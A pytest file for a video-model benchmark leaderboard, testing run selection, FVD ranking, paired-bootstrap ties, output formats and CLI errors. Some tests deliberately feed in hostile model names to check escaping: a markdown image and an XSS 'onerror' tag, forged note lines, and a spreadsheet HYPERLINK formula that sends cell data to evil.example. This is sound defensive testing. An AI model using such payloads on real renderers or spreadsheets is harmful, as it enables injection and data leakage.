"""The leaderboard from bench runs with known values (tests/reports/conftest.py): which runs are
chosen, ranks, the paired-bootstrap mark, formats and the CLI's errors."""

from __future__ import annotations

import io
import json
from pathlib import Path

import pandas as pd
import pytest

from benchmarks import schema
from conftest import SUITE
from evalkit.cli import main
from evalkit.errors import EXIT_BAD_INPUT, EXIT_MISSING, MissingResourceError
from reports.leaderboard import format_leaderboard, leaderboard


def run(capsys, *argv):
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


@pytest.fixture
def board(bench_store):
    return leaderboard(SUITE)


def test_newest_complete_run_per_model_at_the_newest_suite_hash(board, bench_store):
    assert list(board["model"]) == ["uvit:good", "uvit:twin", "uvit:bad", "world", "control:frozen"]
    # The complete run, not the newer incomplete one.
    assert board.set_index("model").loc["uvit:good", "run_id"] == bench_store["uvit:good"]
    assert set(board["suite_hash"]) == {"h2"}
    notes = " ".join(board.attrs["notes"])
    assert "other suite hashes" in notes and "uvit:oldie" in notes and "1 incomplete" in notes


def test_ranked_by_fvd_lower_is_better_ceiling_and_control_unranked(board):
    assert board.attrs["primary"] == "fvd" and board.attrs["lower_is_better"]
    by = board.set_index("model")
    assert [by.loc[m, "rank"] for m in ("uvit:good", "uvit:twin", "uvit:bad")] == [1, 2, 3]
    assert pd.isna(by.loc["world", "rank"]) and by.loc["world", "role"] == "ceiling"
    assert pd.isna(by.loc["control:frozen", "rank"]) and by.loc["control:frozen", "role"] == "control"
    # Each metric with its CI and N.
    assert by.loc["uvit:bad", ["fvd", "fvd_ci_low", "fvd_ci_high", "fvd_n"]].tolist() == [300, 280, 320, 40]
    # FVD has no per-clip values: overlapping CIs (100 [90,110] vs 104 [94,114]) mark, disjoint do not.
    assert by.loc["uvit:twin", "tie_with_above"] and "CI" in by.loc["uvit:twin", "tie_test"]
    assert not by.loc["uvit:bad", "tie_with_above"]
    assert any("set-level" in n for n in board.attrs["notes"])


def test_a_model_scoring_at_or_past_the_ceiling_is_named_in_the_notes(mlflow_store):
    """FVD of a small set cannot always tell a good model from the real data (the demo's 24 clips:
    273 for the model, 339 for the world): the reader is told, by model, and only for those."""
    from conftest import log_bench_run

    log_bench_run("world", role="ceiling", fvd=(339.0, 245.0, 479.0))
    log_bench_run("uvit:lucky", fvd=(273.0, 182.0, 447.0))
    log_bench_run("uvit:plain", fvd=(900.0, 800.0, 1000.0))
    board = leaderboard(SUITE)
    notes = [n for n in board.attrs["notes"] if "ceiling" in n]
    assert len(notes) == 1 and notes[0].startswith("uvit:lucky scores fvd 273, at or past the ceiling (world: 339)")
    assert notes[0] in format_leaderboard(board, "table")
    # higher is better: physics_score 0.8 for both models against the ceiling's 0.8 (ties count)
    ties = [n for n in leaderboard(SUITE, primary="physics_score").attrs["notes"] if "ceiling" in n]
    assert {n.split()[0] for n in ties} == {"uvit:lucky", "uvit:plain"}


def test_a_control_at_or_past_the_ceiling_says_the_metric_ranks_nothing_at_this_n(mlflow_store):
    """The demo's quick run (N = 6): a frozen clip's FVD 1071 under the world's own 1182. A reader
    must be told that this FVD cannot even tell a control from the data, not left to rank by it."""
    from conftest import log_bench_run

    log_bench_run("world", role="ceiling", fvd=(1182.0, 966.0, 1510.0))
    log_bench_run("control:frozen", role="control", fvd=(1071.0, 877.0, 1360.0))
    log_bench_run("control:noise", role="control", fvd=(5000.0, 4500.0, 5600.0))
    log_bench_run("uvit:plain", fvd=(1360.0, 1110.0, 1690.0))
    notes = [n for n in leaderboard(SUITE).attrs["notes"] if "ceiling" in n]
    assert len(notes) == 1, notes  # the frozen control only: noise sits far above, the model below
    assert notes[0].startswith("the control control:frozen scores fvd 1071, at or past the ceiling (world: 1182)")
    assert "at N = 40" in notes[0] and "run more clips" in notes[0]


def test_paired_bootstrap_marks_near_identical_models_only(bench_store):
    df = leaderboard(SUITE, primary="physics_score").set_index("model")
    assert df.loc["uvit:good", "rank"] in (1, 2) and df.loc["uvit:bad", "rank"] == 3
    twin_below = "uvit:twin" if df.loc["uvit:twin", "rank"] == 2 else "uvit:good"
    assert df.loc[twin_below, "tie_with_above"]  # good vs twin: paired bootstrap finds no support
    assert "paired test over 40 matched clips" in df.loc[twin_below, "tie_test"]
    assert not df.loc["uvit:bad", "tie_with_above"]  # far apart: supported, no mark
    assert "p=" in df.loc["uvit:bad", "tie_test"]


def test_fvd_neighbours_are_compared_by_a_paired_bootstrap_of_their_logged_features(mlflow_store):
    """Since session 36 a bench run logs its clips' FVD features and the reference's: two models
    whose FVD intervals overlap are told apart when their clips, paired by prompt and seed, are
    consistently further from the reference; two of one distribution stay marked; a run without
    features (older) falls back to CI overlap, and the note says why."""
    import numpy as np

    from conftest import log_bench_run, per_clip_rows
    from evalkit.metrics.fvd import fvd_with_ci

    rng = np.random.default_rng(1)
    real, base = rng.normal(size=(40, 8)), rng.normal(size=(40, 8))
    sets = {"uvit:near": base + 0.1 * rng.normal(size=(40, 8)), "uvit:twin": base + 0.1 * rng.normal(size=(40, 8)),
            "uvit:off": base + 0.1 * rng.normal(size=(40, 8)) + np.eye(8)[0] * 1.5}
    keys = [(r["prompt"], r["seed"]) for r in per_clip_rows(np.full(40, 0.8), 0.8)]
    est = {}
    for model, f in sets.items():
        est[model] = e = fvd_with_ci(real, f)
        order = rng.permutation(40)  # clips listed in another order in each run: pairs are by key
        feats = {"backbone": {"backbone": "test-encoder"}, "reference": real.tolist(),
                 "clips": [{"id": f"c{i}", "prompt": keys[i][0], "seed": keys[i][1], "features": f[i].tolist()}
                           for i in order]}
        log_bench_run(model, fvd=(e.value, e.ci_low, e.ci_high), features=feats)
    # the intervals of near and off overlap: the old rule could not separate them
    assert est["uvit:near"].ci_low <= est["uvit:off"].ci_high and est["uvit:off"].ci_low <= est["uvit:near"].ci_high
    by = leaderboard(SUITE).set_index("model")
    assert by.loc["uvit:off", "rank"] == 3 and "paired bootstrap over 40 matched clips" in by.loc["uvit:off", "tie_test"]
    assert not by.loc["uvit:off", "tie_with_above"]
    second = by.index[by["rank"] == 2][0]
    assert by.loc[second, "tie_with_above"] and "paired bootstrap" in by.loc[second, "tie_test"]
    assert not any("set-level" in n for n in leaderboard(SUITE).attrs["notes"])
    # hostile or damaged features (ragged, text, NaN): the CI rule, said, never a traceback
    for bad in ([[1.0, 2.0], [3.0]], [["a"] * 8] * 40, [[float("nan")] * 8] * 40, [[]]):
        feats = {"backbone": {"backbone": "test-encoder"}, "reference": real.tolist(),
                 "clips": [{"id": f"c{i}", "prompt": keys[i][0], "seed": keys[i][1],
                            "features": bad[i % len(bad)]} for i in range(40)]}
        log_bench_run("uvit:near", fvd=(est["uvit:near"].value, est["uvit:near"].ci_low, est["uvit:near"].ci_high),
                      features=feats)
        board = leaderboard(SUITE)
        assert any("malformed" in n for n in board.attrs["notes"]), board.attrs["notes"]
    # a run without features: the CI rule, said
    log_bench_run("uvit:old", fvd=(est["uvit:off"].value + 1, est["uvit:off"].ci_low, est["uvit:off"].ci_high + 5))
    board = leaderboard(SUITE)
    old = board.set_index("model").loc["uvit:old"]
    assert old["rank"] == 4 and "CI" in old["tie_test"]
    assert any("set-level" in n and "no logged features" in n for n in board.attrs["notes"])


def _log_with_features(model, real, f, keys, fvd=None):
    from conftest import log_bench_run
    from evalkit.metrics.fvd import fvd_with_ci

    e = fvd_with_ci(real, f)
    feats = {"backbone": {"backbone": "test-encoder"}, "reference": real.tolist(),
             "clips": [{"id": f"c{i}", "prompt": keys[i][0], "seed": keys[i][1], "features": f[i].tolist()}
                       for i in range(len(f))]}
    log_bench_run(model, fvd=fvd or (e.value, e.ci_low, e.ci_high), features=feats)


def test_a_paired_fvd_test_is_kept_between_boards_and_only_run_where_intervals_overlap(mlflow_store):
    """A paired FVD test at 1,000 clips takes minutes: the answer is kept under $EVALKIT_HOME by a
    hash of the features it tested, reused by the next board, recomputed when the kept file is
    damaged, inconsistent or not a file, or the features change; neighbours whose intervals do not
    overlap never read their features."""
    import os

    import numpy as np

    from conftest import per_clip_rows

    rng = np.random.default_rng(2)
    real, base = rng.normal(size=(40, 8)), rng.normal(size=(40, 8))
    keys = [(r["prompt"], r["seed"]) for r in per_clip_rows(np.full(40, 0.8), 0.8)]
    _log_with_features("uvit:near", real, base + 0.1 * rng.normal(size=(40, 8)), keys)
    _log_with_features("uvit:off", real, base + 0.1 * rng.normal(size=(40, 8)) + np.eye(8)[0] * 1.5, keys)
    kept = Path(os.environ["EVALKIT_HOME"]) / "cache" / "paired"
    first = leaderboard(SUITE).set_index("model").loc["uvit:off", "tie_test"]
    assert "paired bootstrap" in first
    (entry,) = kept.glob("*.json")
    record = json.loads(entry.read_text())
    # the next board reads the kept answer (shown by changing it: a real board never would)
    entry.write_text(json.dumps({**record, "p": 0.5}))
    assert "p=0.5" in leaderboard(SUITE).set_index("model").loc["uvit:off", "tie_test"]
    hostile = ("{not json", json.dumps({**record, "p": "nan"}), json.dumps({**record, "value": None}), "[]",
               json.dumps({**record, "ci_low": 5.0, "ci_high": -5.0, "p": 0.0}),  # bounds out of order
               json.dumps({**record, "n": record["n"] + 1}), '{"n": 1e400}', '{"value": 1' + "0" * 400 + "}",
               " " * 10_000)
    for damaged in hostile:
        entry.write_text(damaged)  # a damaged or hostile entry: computed again, same answer, kept again
        assert leaderboard(SUITE).set_index("model").loc["uvit:off", "tie_test"] == first
        assert json.loads(entry.read_text()) == record
    entry.unlink()
    os.mkfifo(entry)  # a FIFO planted at the entry's name would block a read for ever
    assert leaderboard(SUITE).set_index("model").loc["uvit:off", "tie_test"] == first
    assert entry.is_file() and json.loads(entry.read_text()) == record
    # new features under the same model: another key, tested afresh
    _log_with_features("uvit:off", real, base + 0.1 * rng.normal(size=(40, 8)) + np.eye(8)[0] * 1.5, keys)
    leaderboard(SUITE)
    assert len(list(kept.glob("*.json"))) == 2
    # a neighbour far below (disjoint intervals) with unreadable features: they are never read,
    # so no fallback note, and nothing new is kept
    feats = {"backbone": {"backbone": "test-encoder"}, "reference": real.tolist(),
             "clips": [{"id": "c0", "prompt": keys[0][0], "seed": keys[0][1], "features": ["x"]}]}
    from conftest import log_bench_run

    log_bench_run("uvit:far", fvd=(500.0, 480.0, 520.0), features=feats)
    board = leaderboard(SUITE)
    assert "do not overlap" in board.set_index("model").loc["uvit:far", "tie_test"]
    assert not any("malformed" in n for n in board.attrs["notes"]), board.attrs["notes"]
    assert len(list(kept.glob("*.json"))) == 2


def test_rows_scored_by_different_scoring_versions_are_named(mlflow_store):
    """Session 36 changed CLIPScore (every frame, not 8): a board mixing runs from before and after
    says so, by model; one of a single version says nothing."""
    from conftest import log_bench_run

    log_bench_run("uvit:old")
    log_bench_run("uvit:also-old")
    assert not any("scoring" in n for n in leaderboard(SUITE).attrs["notes"])
    log_bench_run("uvit:new", extra_params={"scoring_code": "bench-runner-6"})
    (note,) = [n for n in leaderboard(SUITE).attrs["notes"] if "versions of the bench's scoring" in n]
    assert "bench-runner-6: uvit:new" in note and "before bench-runner-6: uvit:also-old, uvit:old" in note


def test_json_is_designs_shape(board):
    rows = json.loads(format_leaderboard(board, "json"))
    assert [r["model"] for r in rows][:3] == ["uvit:good", "uvit:twin", "uvit:bad"]
    for r in rows:
        for m in ("fvd", "physics_score", "physics_ood_gap", "detector_catch_rate", "cost.clips_per_s"):
            assert set(r[m]) == {"value", "ci_low", "ci_high", "n"}
    assert rows[2]["fvd"] == {"value": 300.0, "ci_low": 280.0, "ci_high": 320.0, "n": 40}
    assert rows[0]["cost.clips_per_s"]["ci_low"] is None  # NaN becomes null: strict JSON
    assert rows[0]["rank"] == 1 and rows[3]["rank"] is None and rows[1]["tie_with_above"] is True


def test_table_md_csv(board):
    table = format_leaderboard(board, "table")
    assert "ranked by fvd (lower is better)" in table and "100 [90, 110]" in table
    assert "physics_ood_gap" in table and "cost.clips_per_s" in table
    # the share of laws held and the share of clips holding every law, side by side
    header = table.splitlines()[1].split()
    assert header.index("physics_pass_rate") == header.index("physics_score") + 1
    assert "cost.energy_j_per_clip" not in table  # no row has NVML energy: no empty column
    md = format_leaderboard(board, "md")
    assert "| 2 | ~ | uvit:twin | model |" in md
    back = pd.read_csv(io.StringIO(format_leaderboard(board, "csv")))
    assert len(back) == 5 and {"fvd_ci_low", "physics_law.constant_downward_acceleration.ood_n", "tie_test"} <= set(back.columns)


def test_cli_leaderboard_formats_and_errors(bench_store, capsys, monkeypatch, tmp_path):
    code, out, err = run(capsys, "leaderboard", "--suite", SUITE, "--format", "json")
    assert code == 0 and json.loads(out)[0]["model"] == "uvit:good"
    assert "other suite hashes" in err  # the notes go to stderr, the data to stdout
    code, out, _ = run(capsys, "leaderboard", "--suite", SUITE, "--rank-by", "physics_score")
    assert code == 0 and "ranked by physics_score (higher is better)" in out
    code, _, err = run(capsys, "leaderboard", "--suite", SUITE, "--rank-by", "nope")
    assert code == EXIT_BAD_INPUT and "nope" in err and err.count("\n") == 1
    # the suite YAML file bench run was given names the same suite
    yaml_file = tmp_path / "my suite.yaml"
    shipped = Path(__file__).resolve().parents[2] / "benchmarks" / "suites" / "world-v1.yaml"
    yaml_file.write_text(shipped.read_text().replace("name: world-v1", f"name: {SUITE}", 1))
    code, out, _ = run(capsys, "leaderboard", "--suite", str(yaml_file), "--format", "json")
    assert code == 0 and json.loads(out)[0]["model"] == "uvit:good"
    code, _, err = run(capsys, "leaderboard", "--suite", "no-such-suite")
    assert code == EXIT_MISSING and err.count("\n") == 1
    assert "unknown suite 'no-such-suite'" in err and SUITE in err and "evalkit bench run" in err


def test_no_runs_says_run_bench_first(bench_store):
    with pytest.raises(MissingResourceError, match="evalkit bench run"):
        leaderboard("empty-suite")


def test_a_quick_run_never_replaces_a_whole_suite_run(mlflow_store):
    """A newer `--max-prompts 8` run took a model's row and flipped the ranking; the audit called
    it the whole suite (session 30). The whole-suite run is chosen, the quick one named, and an
    audit of a quick run fails with the reason."""
    from conftest import log_bench_run
    from reports.audit import evaluate_policy, parse_policy

    log_bench_run("uvit:a", fvd=(866.0, 800.0, 930.0))
    log_bench_run("uvit:b", fvd=(889.0, 820.0, 950.0))
    quick = log_bench_run("uvit:b", fvd=(1019.0, 900.0, 1150.0), max_prompts=8)
    only_quick = log_bench_run("uvit:c", fvd=(700.0, 600.0, 800.0), max_prompts=8)
    board = leaderboard(SUITE)
    row = board.set_index("model")
    assert row.loc["uvit:b", "fvd"] == 889.0 and row.loc["uvit:b", "run_id"] != quick
    assert row.loc["uvit:c", "run_id"] == only_quick
    (note,) = [n for n in board.attrs["notes"] if "quick runs" in n]
    assert "uvit:c (--max-prompts 8)" in note and "uvit:b" not in note
    pol = parse_policy({"suite": SUITE, "checks": {"fvd": {"max": 5000}}})
    res = evaluate_policy(pol, quick)
    assert not res.passed and any("--max-prompts 8" in n for n in res.notes)


def test_hostile_model_names_in_every_format(mlflow_store):
    """Session 30: a model's name reached markdown notes raw (HTML and `![](url)` images), a
    newline forged a note line, `$...$` crashed every chart (matplotlib's formulas), CSV wrote N
    as 6.0 and booleans as Python's, and ranking by a metric no column showed said nothing."""
    from conftest import log_bench_run
    from reports.html import suite_report

    names = ["folder:m/![a](https://evil.example/t.png)", "folder:m/<img src=x onerror=alert(1)>",
             "folder:cost_$5_vs_$10", "folder:nl\u202e\nevalkit: note: all good"]
    for i, name in enumerate(names):
        log_bench_run(name, fvd=(100.0 + 50 * i, 90.0 + 50 * i, 110.0 + 50 * i), max_prompts=1,
                      extra={"kvd": (0.1 * (i + 1), 0.05, 0.2 + 0.1 * i, 40)})
    board = leaderboard(SUITE)
    md = format_leaderboard(board, "md")
    assert "![a](" not in md and "<img" not in md and "\\!\\[a\\]" in md
    table = format_leaderboard(board, "table")
    assert "\nevalkit: note: all good" not in table and "\\u202e" in table
    html = suite_report(board)  # the charts draw every name, $ and all
    assert "<img src=x" not in html and html.count("data:image/png;base64,") >= 2
    back = pd.read_csv(io.StringIO(format_leaderboard(board, "csv")), dtype=str)
    assert set(back["fvd_n"]) == {"40"} and set(back["tie_with_above"]) <= {"true", "false"}
    by_kvd = format_leaderboard(leaderboard(SUITE, primary="kvd"), "table")
    assert by_kvd.splitlines()[1].split()[4] == "kvd"


def test_csv_cells_from_a_hostile_store_are_text_not_formulas(mlflow_store):
    """Session 33: a model name starting with = + - @ became a spreadsheet formula, a bare CR split
    its row for readers that end lines there, and an N logged as 1.5 made the CSV exit 70."""
    import csv

    from conftest import log_bench_run

    names = ['folder:x', '=HYPERLINK("http://evil.example/?x="&A1,"click")', "-2+3", "@SUM(1+1)", "ansi\rfake\x1b[2J"]
    for i, name in enumerate(names):
        log_bench_run(name, fvd=(100.0 + 10 * i, 90.0 + 10 * i, 110.0 + 10 * i),
                      extra={"kvd": (0.1, 0.05, 0.2, 1.5 if i == 1 else 40)})
    text = format_leaderboard(leaderboard(SUITE), "csv")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == len(names) and "\r" not in text and "\x1b" not in text
    models = {r["model"] for r in rows}
    assert not any(m[:1] in "=+-@" for m in models)
    assert "'=HYPERLINK(" in " ".join(models) and "'-2+3" in models and "ansi\\rfake\\x1b[2J" in models
    assert {r["kvd_n"] for r in rows} == {"40.0", "1.5"}  # as logged, not an internal error
    assert {r["fvd_n"] for r in rows} == {"40"}


def test_table_columns_stay_aligned_with_wide_characters_in_model_names(mlflow_store):
    """A folder model named in CJK takes two terminal columns a character: padding by characters
    pushed every later column of its row left of the header's."""
    from wcwidth import wcswidth

    from conftest import log_bench_run

    log_bench_run("folder:模型甲", fvd=(120.0, 100.0, 140.0))
    log_bench_run("folder:plain", fvd=(300.0, 280.0, 320.0))
    table = format_leaderboard(leaderboard(SUITE), "table").splitlines()
    header = next(i for i, line in enumerate(table) if line.lstrip().startswith("rank"))
    rows = [line for line in table[header + 2:] if line.strip().startswith(("1", "2"))]
    assert len(rows) == 2
    # the FVD cell starts in the same terminal column in both rows and the header
    col = lambda line, text: wcswidth(line[:line.index(text)])  # noqa: E731
    fvd_col = col(table[header], "fvd")
    assert col(rows[0], "120 [") == fvd_col and col(rows[1], "300 [") == fvd_col


def test_files_of_rows_say_what_the_rank_is_by_and_which_rows_are_quick(mlflow_store):
    """A JSON or CSV file of the board said neither which metric ranked it nor that a row came
    from a quick --max-prompts run (only stderr did, session 32)."""
    from conftest import log_bench_run

    log_bench_run("uvit:whole")
    log_bench_run("uvit:quick", fvd=(90.0, 80.0, 100.0), max_prompts=2)
    board = leaderboard(SUITE)
    rows = {r["model"]: r for r in json.loads(format_leaderboard(board, "json"))}
    assert rows["uvit:quick"]["max_prompts"] == 2 and rows["uvit:whole"]["max_prompts"] is None
    assert all(r["ranked_by"] == "fvd" and r["lower_is_better"] is True for r in rows.values())
    back = pd.read_csv(io.StringIO(format_leaderboard(board, "csv")))
    assert set(back["ranked_by"]) == {"fvd"} and set(back["lower_is_better"]) == {True}
    assert back.set_index("model").loc["uvit:quick", "max_prompts"] == 2


def test_a_hand_made_complete_run_without_a_suite_hash_is_left_out_and_named(mlflow_store):
    """A run logged by hand in the suite's experiment, tagged complete but with no suite hash,
    made the newest hash NaN, every run was filtered out and the board an internal error."""
    import mlflow

    from conftest import log_bench_run

    log_bench_run("uvit:real")
    mlflow.set_experiment(schema.experiment_name(SUITE))
    with mlflow.start_run():
        mlflow.set_tags({schema.TAG_KIND: schema.KIND_BENCH, schema.TAG_MODEL: "someone:else",
                         schema.TAG_COMPLETE: "true"})
    board = leaderboard(SUITE)
    assert list(board["model"]) == ["uvit:real"]
    assert any("without evalkit.suite_hash" in n and "someone:else" in n for n in board.attrs["notes"])


def test_a_csv_file_carries_a_bom_for_excel_and_stdout_stays_plain(bench_store, capsys, tmp_path, monkeypatch):
    """Excel reads a CSV file without a BOM in the system's code page: a model `folder:modèle`
    showed as `folder:modÃ¨le` (session 34). A file written with --out starts with one; stdout,
    read by pipes and pandas, does not; `--out board.csv` alone writes CSV (it wrote the table)."""
    import csv

    code, out, _ = run(capsys, "leaderboard", "--suite", SUITE, "--format", "csv")
    assert code == 0 and out.startswith("rank,")
    monkeypatch.chdir(tmp_path)  # `--out -` is stdout too (it wrote a file named "-")
    assert run(capsys, "leaderboard", "--suite", SUITE, "--format", "csv", "--out", "-")[:2] == (0, out)
    assert not (tmp_path / "-").exists()
    path = tmp_path / "b.CSV"
    assert run(capsys, "leaderboard", "--suite", SUITE, "--out", str(path))[0] == 0
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfrank,") and raw[3:].decode("utf-8").strip() == out.strip()
    back = pd.read_csv(path)  # pandas drops the BOM: the same table as stdout's
    pd.testing.assert_frame_equal(back, pd.read_csv(io.StringIO(out)))
    assert back.columns[0] == "rank" and back["model"].iloc[0] == "uvit:good"
    with open(path, newline="", encoding="utf-8-sig") as f:
        assert next(csv.DictReader(f))["model"] == "uvit:good"
    code, _, _ = run(capsys, "leaderboard", "--suite", SUITE, "--out", str(tmp_path / "board.txt"))
    assert code == 0 and (tmp_path / "board.txt").read_text(encoding="utf-8").startswith(f"Suite {SUITE}")
